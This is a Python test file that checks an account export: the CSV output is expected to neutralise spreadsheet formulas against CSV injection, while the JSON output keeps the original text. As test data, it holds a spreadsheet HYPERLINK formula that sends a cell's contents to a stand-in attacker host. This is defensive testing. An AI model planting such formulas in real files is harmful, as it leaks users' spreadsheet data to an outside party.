"""The CSV export opens in a spreadsheet: a text starting like a formula (a co-author's title, a comment)
is shown as text, never run (CSV injection); the JSON export keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from tests.factories import create_comment, create_proposal

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_csv_export_neutralises_formulas_but_json_keeps_the_text(client, login_as):
    user = login_as()
    proposal = create_proposal(author=user, title="+Projet " + FORMULA)
    create_comment(proposal=proposal, author=user, body=FORMULA)
    archive = zipfile.ZipFile(io.BytesIO(client.get("/account/export.zip").data))
    cells = [
        cell
        for name in archive.namelist()
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
        for cell in row
    ]
    assert "'" + FORMULA in cells and "'+Projet " + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    data = json.loads(client.get("/account/export").data)
    assert data["comments"][0]["body"] == FORMULA
